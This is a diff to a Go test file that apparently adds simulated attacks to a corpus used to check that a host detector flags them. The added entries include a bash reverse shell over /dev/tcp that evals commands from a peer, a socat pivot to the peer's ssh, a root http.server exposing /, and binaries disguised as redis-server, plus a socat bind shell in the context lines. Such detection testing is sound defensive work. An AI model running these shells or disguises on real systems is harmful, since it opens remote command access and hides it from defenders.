@@ -164,6 +164,34 @@ func startAttacks(t *testing.T, ns string) []*corpusAttack {
 		redis := copyTo(socat, filepath.Join(kit, "bin", "redis-server"))
 		attacks = append(attacks, &corpusAttack{name: "socat copy as redis-server, EXEC", script: "exec " + redis + " TCP-LISTEN:6379,reuseaddr,fork EXEC:/bin/sh", listen: 6379, caught: []string{CodeUnownedExe, CodeExecTool}})
 	}
+	// A user's own root entered by pivot_root from `unshare -r`, run as
+	// nobody: a copy of python3 at its /usr/bin/redis-server.
+	if _, err := exec.LookPath("pivot_root"); err != nil {
+		t.Logf("skip attack in a user's own root: pivot_root is not installed")
+	} else if why := userNamespacesClosed(); why != "" {
+		t.Logf("skip attack in a user's own root: %s", why)
+	} else {
+		attacks = append(attacks, &corpusAttack{name: "python as redis-server in a root nobody owns (unshare -r, pivot_root)",
+			script: "D=" + userRoot(t, 6380) + " exec setpriv --reuid=nobody --regid=nogroup --clear-groups unshare -r -m sh -c '" + userPivotMount + userLibs + userPivotEnter + "'",
+			listen: 6380, caught: []string{CodeUnownedExe}})
+	}
+	// A real daemon's binary copied under another name: no claim to
+	// make, so it is judged as the unknown listener it is.
+	if rs, err := exec.LookPath("redis-server"); err == nil {
+		helper := copyTo(rs, filepath.Join(kit, "bin", "kit-helper"))
+		attacks = append(attacks, &corpusAttack{name: "redis-server's binary copied as kit-helper", script: "exec " + helper + " --port 8083 --bind 0.0.0.0 --save '' --protected-mode no",
+			listen: 8083, caught: []string{CodeUnknownListener}})
+	}
+	attacks = append(attacks,
+		// A relay into the next network is a pivot, not a shell.
+		&corpusAttack{name: "socat relay to the peer's ssh", script: "exec socat TCP-LISTEN:8082,fork,reuseaddr TCP:" + corpusPeer + ":22", listen: 8082, caught: []string{CodePivot}},
+		// Root's working directory, served to anyone: /etc/shadow with it.
+		&corpusAttack{name: "python3 -m http.server as root in /", script: "cd / && exec python3 -m http.server 8088", listen: 8088, caught: []string{CodeFileServer}},
+		// A shell reading commands from a descriptor it opened itself, not
+		// from its standard input.
+		&corpusAttack{name: "bash reading commands from fd 3 (/dev/tcp to 443)", script: "exec bash -c 'exec 3<>/dev/tcp/" + corpusPeer + "/443; while read -r l <&3; do eval \"$l\" >&3 2>&1; done'",
+			rport: 443, caught: []string{CodeShellConnection, CodeReverseShell}},
+	)
 	var run []*corpusAttack
 	for _, a := range attacks {
 		if strings.Contains(a.script, "socat") && socat == "" {
